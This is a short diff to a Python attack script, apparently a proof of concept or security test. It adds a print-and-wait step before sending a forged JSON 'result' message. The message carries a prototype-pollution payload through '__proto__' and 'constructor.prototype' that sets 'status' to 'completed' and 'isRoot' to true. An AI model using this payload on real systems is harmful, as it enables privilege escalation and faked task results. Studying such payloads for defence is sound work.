@@ -7,8 +7,11 @@
 
 import time
 
-from attack import frame, send
+from attack import frame, held, send
 
+held("about to be sent")
+# What was printed is read before what is forged.
+time.sleep(0.2)
 send(
     frame(
         b'{"__proto__": {"status": "completed"}, "type": "result", "constructor": {"prototype": {"isRoot": true}}}'
